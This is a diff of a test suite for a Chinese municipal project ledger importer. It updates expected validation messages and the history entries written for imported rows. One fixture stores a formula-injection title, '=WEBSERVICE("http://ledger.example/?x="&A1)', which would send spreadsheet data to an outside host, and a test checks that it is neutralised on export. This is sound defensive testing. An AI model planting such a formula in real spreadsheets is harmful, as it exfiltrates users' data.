@@ -117,7 +117,7 @@ describe('the messy ledger: merged title rows, blank rows, full-width digits, tr
       [9, '4', 'rejected', 'C 类别: “绿化”不是可识别的类型,应为路灯、下水道、老旧小区或充电桩'],
       [10, '5', 'rejected', 'E 经度(E): 经纬度 2.3522, 48.8566 不在中国境内'],
       [11, '6', 'unplaced'],
-      [12, '7', 'rejected', 'H 责任单位: 责任单位“不存在的管理局”不存在:请先在“管理 → 责任单位”中添加,或更正名称'],
+      [12, '7', 'rejected', 'H 责任单位: 责任单位“不存在的管理局”在石鼓区不存在:请在“值的核对”中确定其含义(采纳建议、选择单位或新建单位)'],
       [13, '2', 'rejected', 'A 序号: 与第 6 行的编号重复'],
       [14, '8', 'rejected', 'I 上报日期: 2024-13-45 不是真实存在的日期'],
       [15, '9', 'create'],
@@ -160,7 +160,8 @@ describe('the messy ledger: merged title rows, blank rows, full-width digits, tr
     expect(done.counts).toEqual({ create: 5, update: 0, unchanged: 0, conflict: 0, rejected: 6, unplaced: 1 });
     const after = await tableCounts();
     expect(after.projects - before.projects).toBe(5);
-    expect(after.history - before.history).toBe(5);
+    // One creation each, and a step for each status a row is further along the loop: 整改中 two, 已完成 three.
+    expect(after.history - before.history).toBe(5 + 2 + 3);
 
     const stored = await projectsOfLedger(LEDGER);
     expect([...stored.keys()].sort()).toEqual(['1', '10', '2', '3', '9']);
@@ -186,8 +187,14 @@ describe('the messy ledger: merged title rows, blank rows, full-width digits, tr
     expect(stored.get('9')!.title).toBe('=WEBSERVICE("http://ledger.example/?x="&A1)');
     expect(stored.get('10')!.title).toBe('东风路路灯维修');
 
-    const history = (await planner.inject(`/api/projects/${stored.get('1')!.id}/history`)).json<{ action: string; note: string; actor: string }[]>();
-    expect(history).toEqual([expect.objectContaining({ action: 'create', actor: 'demo-planner', note: expect.stringContaining(`导入台账“${LEDGER}”第 5 行`) })]);
+    const history = (await planner.inject(`/api/projects/${stored.get('1')!.id}/history`)).json<{ action: string; note: string; actor: string; from_status: string | null; to_status: string }[]>();
+    const fromLedger = { actor: 'demo-planner', note: expect.stringContaining(`导入台账“${LEDGER}”第 5 行`) };
+    expect(history).toEqual([
+      expect.objectContaining({ action: 'create', from_status: null, to_status: 'reported', ...fromLedger }),
+      expect.objectContaining({ action: 'transition', from_status: 'reported', to_status: 'assigned', ...fromLedger }),
+      expect.objectContaining({ action: 'transition', from_status: 'assigned', to_status: 'in_progress', ...fromLedger }),
+    ]);
+    expect(history[1]!.note).toContain('台账记载的办理进展');
   });
 
   it('neutralises the formula-like title on the way out to Excel', async () => {
